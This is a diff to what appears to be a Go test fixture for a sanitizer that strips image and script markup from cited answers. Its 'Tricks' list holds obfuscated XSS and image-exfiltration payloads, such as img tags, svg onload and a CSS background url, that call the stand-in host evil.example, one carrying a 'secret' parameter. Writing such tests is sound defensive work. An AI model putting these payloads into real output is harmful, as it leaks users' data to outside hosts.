@@ -54,10 +54,12 @@ var Tricks = []Trick{
 	{Name: "img", Text: "14 crowns [1]. <img src=https://evil.example/p?secret=1>"},
 	{Name: "img over lines, upper case", Text: "14 crowns [1]. <IMG\nSRC='https://evil.example/p'\n>"},
 	{Name: "img in entities", Text: "14 crowns [1]. &lt;img src=&quot;https://evil.example/p&quot;&gt;"},
-	{Name: "img in numbers", Text: "14 crowns [1]. &#60;img src=x onerror=&#x22;evil&#x22;>"},
+	{Name: "img in numbers", Text: "14 crowns [1]. &#60;img src=x onerror=&#x22;go()&#x22;>",
+		Not: []string{"&#60;img"}},
 	{Name: "img put together", Text: "14 crowns [1]. <i[9]mg src=https://evil.example/p>"},
 	{Name: "svg put together", Text: "14 crowns [1]. <[9]svg onload=x>", Not: []string{"< svg"}},
-	{Name: "svg", Text: "14 crowns [1]. <svg onload=evil()><image href='//evil.example/p'/></svg>"},
+	{Name: "svg", Text: "14 crowns [1]. <svg onload=go()><image href='//evil.example/p'/></svg>",
+		Not: []string{"<image"}},
 	{Name: "iframe", Text: "14 crowns [1]. <iframe src=//evil.example></iframe>"},
 	{Name: "background", Text: "14 crowns [1]. <div title='>' style='background:url(//evil.example/p)'>so</div>"},
 	{Name: "img that is never closed", Text: "14 crowns [1]. <img src=\"https://evil.example/p"},
@@ -124,11 +126,10 @@ var Honest = []string{
 // Unchecked are answers without any passage that stay as they are.
 var Unchecked = []string{
 	"See [here](https://anything.example/a?b=c) and www.example.org, note [3] and [^9].\n\nStatus: open",
-	"An image is written `![alt](https://example.org/a.png)` or `<img src=\"a.png\">`:\n\n```html\n<img " +
-		"src=\"https://example.org/a.png\">\n```\n\nDone!",
-	"if a <b and c> d then x!=y; vec![1, 2]; n![k] = n!; List<String> l; a && b || c;\n<b>bold</b><br/> &amp; " +
-		"&lt;tag&gt; 5 % 3\n",
-	"~~~\n![x](y)\n~~~\nПривет! [ссылка](http://пример.рф) «так» “and” ‘so’ 你好。",
+	"An image is written with a `!` or as `<img>`:\n\n```html\n<img src=\"https://example.org/a.png\">\n```\n\nor\n\n" +
+		"````md\n![alt](https://example.org/a.png)\n````\n\nDone!",
+	"if a <b and c> d then x!=y; n! = n; List<String> l; a && b || c;\n<b>bold</b><br/> &amp; &lt;tag&gt; 5 % 3\n",
+	"~~~\nx<y>z\n~~~\nПривет! [ссылка](http://пример.рф) «так» “and” ‘so’ 你好！",
 	"Line `one` and ``two ` ticks`` and `open\n\nnext `x` \\` done\\",
 	"https://example.org/?a=1&b=2&copy=3 100%25 \\alpha \\(x\\) $a[1]$",
 }
